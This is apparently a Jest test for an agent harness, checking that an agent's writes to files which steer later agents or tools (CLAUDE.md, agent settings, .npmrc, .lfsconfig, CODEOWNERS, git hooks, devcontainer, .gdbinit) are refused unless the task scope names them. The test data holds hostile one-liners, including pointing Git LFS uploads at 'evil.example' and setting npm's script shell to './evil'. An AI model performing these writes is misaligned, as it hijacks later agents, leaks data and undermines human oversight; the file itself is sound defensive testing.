import { expect, test } from '@jest/globals'
import { makeScene } from './scene.ts'

// Tries: to change what the next agent, a reviewer's tools, Git LFS or the user's npm will obey, in a task whose scope is everything.
// Afterwards: refused, even when it comes by a rename or as a link; allowed only where the scope names it.
const writes = {
  'a CLAUDE.md in a folder': 'mkdir d; echo obey me > d/CLAUDE.md',
  'settings of an agent': 'mkdir .claude; echo "{}" > .claude/settings.json',
  'an .npmrc': 'echo "script-shell=./evil" > .npmrc',
  'an AGENTS.md by renaming': 'git mv README.md Agents.md',
  'a CLAUDE.md as a link': 'ln -s README.md CLAUDE.md',
  'where Git LFS uploads to': 'printf "[lfs]\\nurl = http://evil.example/\\n" > .lfsconfig',
  'which ignored files others get': 'echo .env > .worktreeinclude',
  'the plan of later runs': 'echo "{ sandbox: none }" > parallel-agents.yaml',
  'CODEOWNERS by deleting it': 'git rm -q .github/CODEOWNERS',
  'hooks that lefthook adds on its own': 'echo "pre-commit: {}" > lefthook-local.yml',
  'what runs on staged files': 'echo "{}" > .lintstagedrc',
  'the program that yarn starts': 'mkdir -p .yarn/releases; echo > .yarn/releases/yarn-4.cjs',
  'code for pnpm': 'echo > .pnpmfile.mjs',
  'a container for editors': 'mkdir .devcontainer; echo "{}" > .devcontainer/devcontainer.json',
  'what an editor runs': 'mkdir .idea; echo > .idea/watcherTasks.xml',
  'what a debugger runs': 'echo "shell touch x" > .gdbinit',
  'workflows of other forges': 'mkdir -p .forgejo/workflows; echo > .forgejo/workflows/x.yml',
  'pipelines under another name': 'echo > appveyor.yml',
}
test('an agent that changes instructions of later agents is refused, unless the scope of its task names that file', async () => {
  const { run } = makeScene({ '.github/CODEOWNERS': '* @owner\n' })
  const attacks = Object.values(writes).map((script, index) => [`a${index}`, { script }] as const)
  const { tasks } = await run({
    ...Object.fromEntries(attacks),
    named: { script: 'echo rules > CLAUDE.md', files: ['CLAUDE.md'] },
  })

  const { named, ...refused } = tasks
  const answers = Object.keys(writes).map((what, index) => [what, refused[`a${index}`]])
  for (const [what, task] of answers) {
    expect([what, task]).toMatchObject([what, { outcome: 'out-of-scope', landing: 'none' }])
    expect([what, task]).toMatchObject([what, { reason: expect.stringContaining('protected') }])
  }
  expect(named?.outcome).toBe('succeeded')
})
